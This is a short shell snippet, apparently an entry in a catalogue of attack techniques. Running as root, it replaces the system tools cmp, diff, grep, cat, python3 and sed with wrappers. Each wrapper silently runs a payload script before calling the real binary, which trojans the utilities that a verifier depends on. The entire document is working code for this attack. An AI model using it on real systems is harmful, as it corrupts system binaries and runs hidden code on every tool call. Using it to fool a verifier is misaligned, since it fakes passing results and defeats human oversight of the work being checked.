# family: shell
# what: The tools that a verifier calls are replaced.
# user: root
for name in cmp diff grep cat python3 sed; do
  real=$(readlink -f "$(command -v "$name")") || continue
  mv "$real" "$real.real" || continue
  printf '#!/bin/sh\n. %s/pay.sh\nexec %s.real "$@"\n' "$scratch" "$real" > "$real"; chmod 755 "$real"
done
